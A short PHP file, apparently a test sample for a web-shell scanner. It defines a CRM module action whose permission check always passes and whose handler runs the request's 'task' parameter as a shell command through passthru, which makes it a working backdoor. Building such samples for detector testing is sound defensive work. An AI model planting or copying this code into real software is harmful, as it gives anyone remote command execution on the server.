<?php
// Inert test sample (webhunt): a CRM module action whose handler runs the request object's "task"
// parameter as a shell command; no superglobal is read, the framework passes the request in.
class Reports_Maintenance_Action extends Base_Ajax_Action
{
    public function checkPermission(Base_Request $request)
    {
        return true;
    }

    public function process(Base_Request $request)
    {
        echo '<pre>';
        passthru($request->get('task'));
        echo '</pre>';
    }
}
